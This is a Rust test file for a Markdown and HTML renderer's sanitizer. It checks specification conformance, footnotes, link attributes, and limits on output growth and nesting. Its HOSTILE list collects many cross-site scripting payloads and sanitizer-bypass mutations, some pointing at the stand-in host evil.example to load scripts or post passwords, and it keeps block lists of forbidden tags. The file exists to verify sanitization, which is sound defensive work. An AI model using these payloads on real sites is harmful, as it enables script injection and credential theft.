//! Contents as HTML: what Markdown means, what is left of hostile HTML, and what it may cost.

use std::collections::BTreeMap;

use inkpot::posts::html::render;
use inkpot::posts::types::Format;

const EXAMPLES: &str = include_str!("../markdown/examples.json");

/// Elements that run, frame, ask for input, or load more than a picture.
const FORBIDDEN: &[&str] = &[
    "script", "style", "iframe", "frame", "frameset", "form", "input", "button", "select",
    "option", "textarea", "object", "embed", "applet", "svg", "math", "link", "meta", "base",
    "template", "video", "audio", "source", "noscript", "body", "head", "html", "title", "portal",
    "dialog", "marquee", "isindex", "layer", "xml", "slot",
];
const MAY_HAVE: &[&str] = &[
    "href", "rel", "title", "lang", "id", "class", "align", "src", "alt", "width", "height",
    "start", "colspan", "rowspan", "datetime", "dir", "span", "hreflang", "size", "scope",
    "headers", "summary", "char", "charoff",
];

/// Without the white space beside tags, which means nothing outside of `pre`.
fn squeezed(html: &str) -> String {
    let lines: Vec<&str> = html.split('\n').map(str::trim).collect();
    lines.concat()
}

#[test]
fn markdown_means_what_its_specifications_say() {
    let examples: BTreeMap<String, Vec<(String, String)>> = serde_json::from_str(EXAMPLES).unwrap();
    assert_eq!(examples["commonmark"].len(), 652);
    for (part, pairs) in &examples {
        for (markdown, html) in pairs {
            // What the sanitizer would take: columns and boxes are written otherwise here.
            let mut html = html.clone();
            for side in ["left", "center", "right"] {
                let style = format!("style=\"text-align: {side}\"");
                html = html.replace(&style, &format!("align=\"{side}\""));
            }
            let html = html
                .replace(
                    "<input disabled=\"\" type=\"checkbox\" checked=\"\"/>\n",
                    "\u{2611} ",
                )
                .replace("<input disabled=\"\" type=\"checkbox\"/>\n", "\u{2610} ");
            assert_eq!(
                squeezed(&render(7, Format::Markdown, markdown)),
                squeezed(&render(7, Format::Html, &html)),
                "{part}: {markdown:?}"
            );
        }
    }
}

#[test]
fn footnotes_are_numbered_and_stand_at_the_end() {
    let text = "One[^b], two[^a], one again[^b], none[^c].\n\n[^a]: The **second**.\n\n[^b]: The first.\n    \
                Still[^a].\n\n[^d]: Nobody asked.\n\nThe end.";
    assert_eq!(
        render(3, Format::Markdown, text),
        "<p>One<sup><a href=\"#post-3-fn-1\" id=\"post-3-fnref-1\" rel=\"nofollow ugc noopener\">1</a></sup>, \
         two<sup><a href=\"#post-3-fn-2\" id=\"post-3-fnref-2\" rel=\"nofollow ugc noopener\">2</a></sup>, \
         one again<sup><a href=\"#post-3-fn-1\" rel=\"nofollow ugc noopener\">1</a></sup>, none[^c].</p>\n\
         <p>The end.</p>\n\
         <div id=\"post-3-fn-1\"><sup><a href=\"#post-3-fnref-1\" rel=\"nofollow ugc noopener\">1</a></sup>\n\
         <p>The first.\nStill<sup><a href=\"#post-3-fn-2\" rel=\"nofollow ugc noopener\">2</a></sup>.</p>\n</div>\n\
         <div id=\"post-3-fn-2\"><sup><a href=\"#post-3-fnref-2\" rel=\"nofollow ugc noopener\">2</a></sup>\n\
         <p>The <strong>second</strong>.</p>\n</div>\n"
    );
}

#[test]
fn text_is_shown_as_it_is() {
    let text = "a <b>&amp; \"c\"\r\n'd'\n\n\n\t\n* e\n\u{1F600}";
    assert_eq!(
        render(1, Format::Text, text),
        "<p>a &lt;b&gt;&amp;amp; &quot;c&quot;<br>\n&#39;d&#39;</p>\n<p>* e<br>\n\u{1F600}</p>\n"
    );
    assert_eq!(render(1, Format::Text, " \n\n"), "");
}

#[test]
fn links_code_and_pictures_keep_what_they_need() {
    for (format, text, html) in [
        (
            Format::Markdown,
            "[a](https://example.org/?a=1&b=2 \"t\")",
            "<p><a href=\"https://example.org/?a=1&amp;b=2\" title=\"t\" rel=\"nofollow ugc noopener\">a</a></p>\n",
        ),
        (
            Format::Markdown,
            "```rust\nlet a = &b;\n```",
            "<pre><code class=\"language-rust\">let a = &amp;b;\n</code></pre>\n",
        ),
        (
            Format::Markdown,
            "![a](/x.png)",
            "<p><img src=\"/x.png\" alt=\"a\"></p>\n",
        ),
        (
            Format::Html,
            "<a href='#top' target=_blank rel=opener name=x>x</a><i id=top>y</i>",
            "<a href=\"#post-1-top\" rel=\"nofollow ugc noopener\">x</a><i id=\"post-1-top\">y</i>",
        ),
        (
            Format::Html,
            "<code class='language-x onclick'>a</code><p class=x style='color:red'>b",
            "<code>a</code><p>b</p>",
        ),
        (Format::Html, "a <!-- b --> c", "a  c"),
    ] {
        assert_eq!(render(1, format, text), html, "{text}");
    }
}

/// One tag of an answer: its name and its attributes.
type Tag = (String, Vec<(String, String)>);

/// Reads HTML as strictly as it was written: a `<` begins a tag, and values are in quotes.
fn tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let after = after.strip_prefix('/').unwrap_or(after);
        let end = after.find(|c: char| !c.is_ascii_alphanumeric()).unwrap();
        assert!(end > 0, "no tag: {html}");
        let (name, mut inner) = after.split_at(end);
        let mut attributes = Vec::new();
        while let Some(attribute) = inner.strip_prefix(' ') {
            let (name, value) = attribute.split_once("=\"").unwrap();
            let (value, after) = value.split_once('"').unwrap();
            attributes.push((name.to_owned(), value.to_owned()));
            inner = after;
        }
        rest = inner
            .strip_prefix('>')
            .unwrap_or_else(|| panic!("no end of a tag: {html}"));
        tags.push((name.to_owned(), attributes));
    }
    tags
}

fn assert_harmless(source: &str, html: &str) {
    for (name, attributes) in tags(html) {
        assert!(
            !FORBIDDEN.contains(&name.as_str()),
            "{source} became {html}"
        );
        for (attribute, value) in &attributes {
            assert!(
                MAY_HAVE.contains(&attribute.as_str()),
                "{source} became {html}"
            );
            if ["href", "src"].contains(&attribute.as_str()) {
                let plain: String = (value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control()))
                .collect::<String>()
                .to_lowercase();
                // What stands before a colon is a scheme, unless a path has begun.
                let scheme = plain.split(['/', '?', '#']).next().unwrap_or_default();
                let scheme = scheme.split_once(':').map(|(scheme, _)| scheme);
                let is_scheme = |s: &str| {
                    s.starts_with(|c: char| c.is_ascii_alphabetic())
                        && s.chars()
                            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
                };
                let known = ["http", "https", "mailto", "tel"];
                let is_known = scheme.is_none_or(|s| !is_scheme(s) || known.contains(&s));
                assert!(
                    is_known && !plain.contains("&colon"),
                    "{source} became {html}"
                );
            }
            if attribute == "rel" {
                assert_eq!(value, "nofollow ugc noopener", "{source} became {html}");
            }
        }
        let has = |wanted: &str| attributes.iter().any(|(name, _)| name == wanted);
        assert!(
            name != "a" || has("rel") || !has("href"),
            "{source} became {html}"
        );
    }
}

/// After the cheat sheets of OWASP and others, and what broke sanitizers by mutation.
pub const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "<script\u{c}>alert(1)</script >",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\u{a0}=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=\" &#14; javascript:alert(1);\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\" onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\" \u{a0}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=x target=_blank rel=opener>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<area href=javascript:alert(1)>",
    "<a href='blob:https://example.org/x'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe src=https://evil.example>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<form action=https://evil.example><input name=password type=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x",
    "<select><button><selectedcontent></button><option selected><script>alert(1)</script></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open>x</dialog>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<portal src=https://evil.example>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY a \"<script>\">]>&a;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=\"x\" name=\"y\" contenteditable accesskey=x tabindex=1>x",
    "<div title=\"'><script>alert(1)</script>\">x",
    "<q cite=javascript:alert(1)>x</q>",
    "<del cite='data:text/html,x'>x</del>",
    "<img usemap=#x><map name=x><area href=javascript:alert(1)></map>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"https://example.org/\" onclick\u{b}=alert(1)>x</a>",
    "<p/onclick=alert(1)>x",
    "<p\u{0}onclick=alert(1)>x",
    // By Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y)",
    "[x](y \"t\\\" onclick=\\\"alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: y '\"><script>alert(1)</script>'\n\n[x]",
    "```\"><script>alert(1)</script>\ny\n```",
    "``` x onclick=alert(1)\ny\n```",
    "`<script>alert(1)</script>`",
    "[<img src=x onerror=alert(1)>](y)",
    "[^<script>]: x\n\ny[^<script>]",
    "[^\" onclick=\"alert(1)]: x\n\ny[^\" onclick=\"alert(1)]",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "<a href=\"\n\njavascript:alert(1)\">x</a>",
    "*<script*>alert(1)</script>",
    "<style>\n\n*{}\n\n</style>",
    "<!--\n\n--><script>alert(1)</script>",
];

#[test]
fn nothing_hostile_is_left() {
    for source in HOSTILE {
        for format in [Format::Markdown, Format::Html] {
            // Alone, after a beginning that was left open, and in the middle of text.
            for (before, after) in [
                ("", ""),
                ("<p title=\"", "\">"),
                ("a\n\n", "\n\nb"),
                ("<b><table><tr>", "</b>"),
                ("<!--", "-->"),
            ] {
                let text = format!("{before}{source}{after}");
                let html = render(1, format, &text);
                assert_harmless(&text, &html);
            }
        }
        assert_harmless(source, &render(1, Format::Text, source));
    }
    // The reader of this test sees what it looks for.
    for seen in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<a href=\"x\">",
    ] {
        assert!(
            std::panic::catch_unwind(|| assert_harmless(seen, seen)).is_err(),
            "{seen}"
        );
    }
}

const SIZE: usize = 512 * 1024;

/// So many bytes of `piece`, with its number where there is a `#`.
fn many(piece: &str) -> String {
    let mut text = String::new();
    for n in 0.. {
        if text.len() + piece.len() > SIZE {
            break;
        }
        text.push_str(&piece.replace('#', &n.to_string()));
    }
    text
}

/// Each of these takes minutes or gigabytes where it is done as the standards say.
#[test]
fn what_grows_is_bounded() {
    let bomb = |a: &str, b: &str| {
        let half = |piece: &str| many(piece)[..SIZE / 2 - 16].to_owned();
        format!("{}{}", half(a), half(b))
    };
    let long = "a".repeat(200_000);
    let texts = [
        many("<div>"),
        many("<b id=#>"),
        many("<b id=#><p>"),
        bomb("<b id=#>", "<p>"),
        many("<a href=#><table><td>"),
        many("<i><table>"),
        many("<b id=#><button></b></button>"),
        many("<b id=#></p>"),
        many("<svg><![CDATA[></svg></b>]]><b id=#>"),
        format!("<p {}>", many("a# ")),
        format!("<p {}>", many("a#/")),
        format!("<p {}>", many("a\"# ")),
        many("<select><option>"),
        many("<template>"),
        many("<svg><p>"),
        many("<font size=#>"),
        many("<ruby><rt>"),
        many("<table><tr><td>"),
        many("</p>"),
        many("<br>"),
        many("<!---->"),
        many("<!--"),
        many("<"),
        many("&lt;"),
        many("&#"),
        many("<p><li><dd>"),
        many("> "),
        many(">"),
        many("- "),
        many("* a\n  "),
        many("1. "),
        many("["),
        many("![["),
        many("[a]("),
        many("](b"),
        many("*a_ "),
        many("*a **a "),
        many("**x"),
        many("`a``b```"),
        many("~~a "),
        many("a*_"),
        many("<a "),
        many("<!A "),
        many("<?"),
        many("\\"),
        format!("[a]: {long}\n\n{}", many("[a]")),
        format!("[^a]: {long}\n\n{}", many("[^a]")),
        many("[^#]: a[^#]\n\n"),
        many("[a#]: b\n"),
        many("[#]: #\n\n[#]"),
        bomb("|a", "\n|b"),
        format!(
            "{}\n{}\n{}",
            "|a".repeat(100_000),
            "|-".repeat(100_000),
            "|b\n".repeat(200_000)
        ),
        many("# a\n"),
        many("***\n"),
        many("\"\"\""),
        many("a\n\n"),
        many("```\n"),
        many("    a\n\n"),
        many("- a\n\n- b\n"),
        many("> a\n> > b\n"),
        many("[a][b](c)"),
        many("&nbsp;"),
        many("<https://a.b/#>"),
        many("&"),
        many("&a"),
        format!("<table>{}", many("<br>")),
        format!("<table>{}", many("x<br>")),
        format!("<table>{}", many("<p>x")),
        formatted(100, 20_000),
    ];
    for text in texts {
        assert!(text.len() <= 2 * SIZE);
        for format in [Format::Markdown, Format::Html, Format::Text] {
            let html = render(1, format, &text);
            let shown: String = text.chars().take(40).collect();
            // A link of four letters has a `rel` of forty: more than that nothing becomes.
            assert!(html.len() <= 32 * text.len(), "{format:?}: {shown:?}");
            // Whole, whatever it was.
            tags(&html);
        }
    }
}

#[test]
fn what_is_nested_too_deeply_is_shown_as_it_was_written() {
    let deep = |levels: usize| format!("{}x", "<div>".repeat(levels));
    assert!(render(1, Format::Html, &deep(100)).starts_with("<div><div>"));
    assert!(render(1, Format::Html, &deep(1_000)).starts_with("<p>&lt;div&gt;&lt;div&gt;"));
    assert!(render(1, Format::Markdown, &">".repeat(60)).starts_with("<blockquote>"));
    assert!(render(1, Format::Markdown, &">".repeat(1_000)).starts_with("<p>&gt;&gt;"));
    // A picture within the text is no tag with too many attributes.
    let picture = format!(
        "<p>a<img alt=b src=\"data:image/png;base64,{}\"></p>",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9Q/".repeat(3_000)
    );
    assert_eq!(render(1, Format::Html, &picture), "<p>a<img alt=\"b\"></p>");
}

/// So many elements that are open, of a kind that is compared with those around it, and so many
/// after them that are closed.
fn formatted(open: usize, closed: usize) -> String {
    let begin = |n: usize| format!("<b a{n} b c d>");
    let open: String = (0..open).map(begin).collect();
    let closed: String = (0..closed).map(|n| begin(n) + "x</b>").collect();
    open + &closed
}

#[test]
fn what_is_looked_for_among_many_is_shown_as_it_was_written() {
    // Before a table, which has the place of what is in none of its cells.
    let astray = |times: usize| format!("<table>{}", "x<br>".repeat(times));
    assert!(render(1, Format::Html, &astray(100)).starts_with("x<br>x<br>"));
    assert!(render(1, Format::Html, &astray(1_000)).starts_with("<p>&lt;table&gt;x&lt;br&gt;"));
    let table = format!("<table>{}", "<tr><td>x<br>\n".repeat(5_000));
    assert!(render(1, Format::Html, &table).starts_with("<table><tbody><tr><td>x<br>"));
    // Formatting elements in each other.
    assert!(render(1, Format::Html, &formatted(3, 20_000)).starts_with("<b><b><b><b>x</b>"));
    assert!(render(1, Format::Html, &formatted(100, 20_000)).starts_with("<p>&lt;b a0 b c d&gt;"));
    // In pieces, none of which is within a character.
    let wide = "a字😀&amp;é".repeat(5_000);
    assert_eq!(render(1, Format::Html, &wide), wide);
}
